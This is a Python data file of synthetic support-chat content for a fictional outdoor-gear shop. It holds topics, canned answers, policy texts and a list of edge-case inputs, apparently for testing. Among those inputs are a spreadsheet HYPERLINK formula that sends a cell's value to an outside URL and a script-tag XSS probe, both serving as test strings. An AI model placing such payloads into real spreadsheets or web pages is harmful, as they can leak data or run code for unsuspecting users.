"""The words of made-up support conversations of a shop for outdoor gear."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Topic:
    """What a conversation is about: a title, ways to ask, and how it goes on."""

    name: str
    title: str
    questions: tuple[str, ...]
    answers: tuple[str, ...]
    follow_ups: tuple[tuple[str, str], ...]
    tool: str | None = None


TOPICS = (
    Topic(
        "shipping",
        "Where is my order",
        (
            "Where is my order {order}?",
            "My parcel {order} should have been here on Monday. What happened?",
            "hi, tracking for {order} has not moved in 4 days",
        ),
        (
            "Your order {order} left our warehouse and is with the carrier. It arrives within two days.",
            "I am sorry for the wait. The carrier has {order} at its depot and delivers tomorrow.",
        ),
        (
            (
                "Can I change the delivery address?",
                "Not any more once it has shipped. You can pick it up at a shop.",
            ),
            ("Will I get a text message?", "Yes, the carrier sends one on the morning of the delivery."),
        ),
        tool="get_order_status",
    ),
    Topic(
        "refunds",
        "Refund for a return",
        (
            "I sent the jacket back two weeks ago and still have no refund.",
            "How long does a refund take?",
            "Please refund order {order}, it arrived damaged",
        ),
        (
            "Refunds take 5 to 7 working days after the parcel reaches us. I see yours arrived on Friday.",
            "I am sorry about that. A refund for {order} is on its way to your original payment method.",
        ),
        (
            ("Can I get store credit instead?", "Yes. Store credit is added at once and does not expire."),
            ("Do I pay for the return label?", "No, returns are free within 30 days."),
        ),
    ),
    Topic(
        "billing",
        "Question about an invoice",
        (
            "I was charged twice for order {order}",
            "Where can I download my invoice?",
            "Our accounting needs the VAT number on the invoice, can you add it?",
        ),
        (
            "I see one charge and one reservation; the reservation disappears within three days.",
            "You find invoices under Account, then Orders. Each one can be saved as a PDF.",
        ),
        (
            ("Can you send it to billing@example.com?", "Sure, I have sent it there."),
            ("And for last year?", "Invoices stay in your account for ten years."),
        ),
    ),
    Topic(
        "account",
        "Cannot sign in",
        (
            "I can't log in, the password reset mail never arrives",
            "How do I change the e-mail address of my account? It is now {email}",
            "Please delete my account",
        ),
        (
            "Please check the spam folder. The mail comes from no-reply@example.com; it is valid for 1 hour.",
            "Open Account, then Profile, and enter the new address. We send a link to confirm it.",
        ),
        (
            ("Still nothing.", "Then I pass this on to a colleague, who will call you at {phone}."),
            ("That worked, thanks!", "Glad to hear it. Have a good day!"),
        ),
    ),
    Topic(
        "product",
        "Which tent to choose",
        (
            "Is the Ridge 2 tent waterproof?",
            "Which sleeping bag do you recommend for -10°C?",
            "Does the 45L backpack fit as cabin luggage?",
        ),
        (
            "Yes, the Ridge 2 has a water column of 4,000 mm, and all seams are taped.",
            "For -10°C we recommend the Polar 400; its comfort limit is -12°C.",
        ),
        (
            ("How heavy is it?", "It weighs 2.1 kg with poles and pegs."),
            ("Is it in stock?", "Yes, in green and in grey. Delivery takes two to three days."),
        ),
    ),
    Topic(
        "warranty",
        "Broken zip",
        (
            "The zip of my jacket broke after 3 months",
            "Do you repair hiking boots?",
            "What does the warranty cover?",
        ),
        (
            "Zips are covered for two years. Please send us a photo, and we start the repair.",
            "Yes, we resole most boots. A repair takes about three weeks.",
        ),
        (
            ("Here is the photo.", "Thank you, that is a case for the warranty. The label is in your inbox."),
            ("What if I lost the receipt?", "The order number is enough."),
        ),
    ),
    Topic(
        "hours",
        "Opening hours",
        (
            "When is the shop in Berlin open?",
            "Are you open on Easter Monday?",
            "Can I pick up an order on Sunday?",
        ),
        (
            "The shop is open Monday to Saturday from 10 am to 7 pm.",
            "We are closed on public holidays. The online shop is always open.",
        ),
        (("And the phone line?", "You reach us on weekdays from 9 am to 5 pm."),),
    ),
    Topic(
        "discount",
        "Discount code does not work",
        (
            "The code SPRING10 does not work",
            "Do you have a student discount?",
            "Can I combine two vouchers?",
        ),
        (
            "SPRING10 is valid for orders from 50 €. Your cart is just below that.",
            "Yes, students get 10 % off. Upload your card under Account, then Benefits.",
        ),
        (("Can you make an exception?", "I cannot, but I can offer free shipping for this order."),),
    ),
)

CLOSINGS = (
    ("Thanks, that is all.", "You are welcome!"),
    ("ok thx", "Happy to help. Bye!"),
    ("That did not help at all.", "I am sorry. I have asked a colleague to look into it."),
)

HUMAN_REPLY = "Hello, this is Kim from the support team. I took over and will look into this personally."

ODD_TEXTS = (
    "Où est ma commande ? J'ai payé 1 234,50 € 😡😡",
    "أين طلبي؟ رقم الطلب {order}",
    "איפה ההזמנה שלי? \u200f{order}\u200f",
    "返品したいのですが、送料はかかりますか。🙏🏽",
    '=HYPERLINK("http://example.com/?x="&A1,"Click me")',
    "+49 30 1234567 is my number, please call",
    "-10% discount? @everyone",
    'He said "no", then hung up;\nline two, with a comma\r\nline three\tand a tab',
    "My e-mail is {email}, my phone is {phone}.",
    "Zero\u200bwidth, line\u2028separator, combining e\u0301, flag 🇩🇪, family 👨‍👩‍👧‍👦",
    "<script>alert('x')</script> & <b>bold</b>",
    "   leading and trailing spaces   ",
    "NULL",
    "\\N \\\\ C:\\temp\\new {{ ds }}",
)

_SHIPPING = (
    "Orders ship within one working day. Delivery inside Germany takes two to three days. "
    "Shipping is free from 60 €. Express delivery costs 9.90 € and arrives the next working day. "
    "International delivery takes five to ten days."
)
_RETURNS = (
    "You can return anything within 30 days. Returns are free of charge. "
    "Refunds take 5 to 7 working days after the parcel reaches us. "
    "Damaged items are replaced or refunded at once."
)
_WARRANTY = (
    "All products have a warranty of two years. Zips and seams are repaired free of charge. "
    "A repair takes about three weeks. Boots can be resoled for 79 €."
)
TEXT_SOURCES = (
    ("Shipping policy", _SHIPPING),
    ("Returns and refunds", _RETURNS),
    ("Warranty and repairs", _WARRANTY),
)
QNA_SOURCES = (
    (
        "Opening hours",
        ("When are you open?", "What are your opening hours?"),
        "Our shops are open Monday to Saturday from 10 am to 7 pm.",
    ),
    (
        "Contact",
        ("How can I reach a human?", "What is your phone number?"),
        "You reach our team on weekdays from 9 am to 5 pm at +49 30 5550199.",
    ),
)
LINK_SOURCE = "https://shop.example.com/help"
INSTRUCTIONS = (
    "You are the support agent of Ridgeline, a shop for outdoor gear. "
    "Answer shortly and politely, and only from the given sources."
)
FIRST_NAMES = (
    "Anna",
    "Ben",
    "Chidi",
    "Dana",
    "Elif",
    "Farid",
    "Grace",
    "Hiro",
    "Ines",
    "Jamal",
    "Kim",
    "Lucía",
)
LAST_NAMES = ("Adler", "Baker", "Chen", "Diallo", "Evans", "Fischer", "García", "Haddad", "Ito", "Jensen")
